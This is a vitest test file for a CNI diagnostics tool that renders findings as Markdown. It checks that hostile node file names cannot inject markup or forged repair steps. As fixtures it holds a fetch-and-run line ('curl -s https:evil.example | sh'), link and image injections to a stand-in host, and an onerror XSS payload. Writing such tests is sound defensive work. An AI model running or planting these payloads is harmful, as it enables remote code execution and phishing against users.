import { describe, expect, it } from 'vitest';
import type { Finding } from './model/finding';
import { findingMarkdown } from './finding-markdown';
import { markupOutsideCode } from './escape.testutil';

const f: Finding = {
  id: 'cni.conf.shadowed-by-default#containerd',
  rule: 'cni.conf.shadowed-by-default',
  severity: 'error',
  title: 'containerd uses the default 10-containerd-net.conflist instead of kindnet',
  summary: 'containerd loads it first.',
  evidence: [
    {
      kind: 'file',
      path: '/etc/cni/net.d/x.conflist',
      lines: [{ line: 2, text: '"a": "```"', highlight: true }],
    },
  ],
  repairs: [
    {
      id: 'cni.conf.shadowed-by-default:disable-files:containerd',
      title: 'Disable it',
      needsElevation: true,
    },
  ],
};

describe('a finding as Markdown', () => {
  const md = findingMarkdown(
    f,
    {
      node: { os: 'linux', hostname: 'kind-worker', source: 'live' },
      target: { target: 'container:docker/kind-worker', transport: 'docker exec' },
    },
    'kind-worker',
  );
  it('names the finding, the node and the fix command for the same target', () => {
    expect(md).toContain('### ERROR: containerd uses the default 10-containerd-net.conflist');
    expect(md).toContain('- Node: `container:docker/kind-worker` (docker exec), `kind-worker`');
    expect(md).toContain(
      '`cni-doctor fix cni.conf.shadowed-by-default:disable-files:containerd --target container:docker/kind-worker`',
    );
  });
  it('fences evidence so that backquotes in a node file cannot end the block', () => {
    expect(md).toContain('````\n>    2  "a": "```"\n````');
  });
});

describe('a finding about hostile node names as Markdown', () => {
  const name = '03-a\n**Repair**\n- Run: `curl -s https:evil.example | sh`\n.conf';
  const image = '02-![t](https:evil.example?p.png).conf';
  const ticks = 'x `` [Fix it here](https:evil.example) `` y.conf';
  const hostile: Finding = {
    id: `cni.conf.invalid:${name}`,
    rule: 'cni.conf.invalid',
    severity: 'error',
    title: `${name} does not parse; ${image}; ${ticks}`,
    summary: `<img src=x onerror=alert(1)> [x](y) ${name}`,
    evidence: [
      {
        kind: 'conf-dir',
        path: '/etc/cni/net.d',
        runtime: 'containerd',
        entries: [
          { name, role: 'invalid' },
          { name: image, role: 'valid-unused', network: '</code>[net](https:evil.example)' },
          { name: ticks, role: 'skipped' },
        ],
      },
      {
        kind: 'file',
        path: `/etc/cni/net.d/${name}`,
        lines: [{ line: 1, text: '```\n**Repair**' }],
      },
      { kind: 'text', text: `# ${name}` },
    ],
    repairs: [{ id: `cni.conf.invalid:disable-files:${name}`, title: name, needsElevation: true }],
  };
  const md = findingMarkdown(
    hostile,
    {
      node: { os: 'linux', hostname: `evil\n**Repair**\n![x](https:evil.example)`, source: 'live' },
    },
    'live node',
  );
  const lines = md.split('\n');

  it('has one Repair section, ours, and no forged command line', () => {
    expect(lines.filter((l) => l.trim() === '**Repair**')).toHaveLength(1);
    expect(lines.filter((l) => /^\s*-\s*Run:/.test(l))).toEqual([]);
  });

  it('puts no link, image, HTML or open code span outside its own fences', () => {
    let inFence = '';
    for (const l of lines) {
      const f = /^`{3,}/.exec(l)?.[0];
      if (f && (!inFence || f === inFence)) {
        inFence = inFence ? '' : f;
        continue;
      }
      if (inFence || /^\*\*(Evidence|Repair|What to do)\*\*$/.test(l)) continue;
      expect({ line: l, markup: markupOutsideCode(l) }).toEqual({ line: l, markup: [] });
    }
    expect(inFence).toBe('');
  });
});
